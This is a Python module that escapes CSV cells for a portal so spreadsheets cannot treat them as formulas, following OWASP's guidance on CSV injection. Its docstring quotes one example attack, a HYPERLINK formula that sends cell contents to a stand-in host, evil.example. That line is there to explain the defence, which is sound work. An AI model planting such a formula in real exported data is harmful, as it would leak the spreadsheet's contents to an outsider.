"""Every CSV the portal writes goes through here, so no cell can run as a formula.

A spreadsheet opening a CSV reads a cell that begins with =, +, -, @, a tab or a carriage
return as a formula: a neighbourhood named =HYPERLINK("https://evil.example/?x="&A1,"Click")
would become a link that sends the sheet's cells away. Following OWASP's advice on CSV
injection, such a text cell is written with a single quote in front ('=HYPERLINK(...)),
which spreadsheets show as text. Numbers are left as numbers: a longitude of -0.065, as a
number or as a string that is plainly one, is not a formula and must stay a number.
"""

import csv
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER_RE = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)")


def safe_cell(value):
    """The value as a CSV cell: None as empty, text that could be read as a formula
    behind a single quote, anything else as it is."""
    if value is None:
        return ""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER_RE.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer, with every cell passed through safe_cell."""

    def __init__(self, out, **options):
        self._writer = csv.writer(out, **options)

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(out, **options) -> SafeWriter:
    """The one way the portal writes a CSV (options as csv.writer takes them)."""
    return SafeWriter(out, **options)
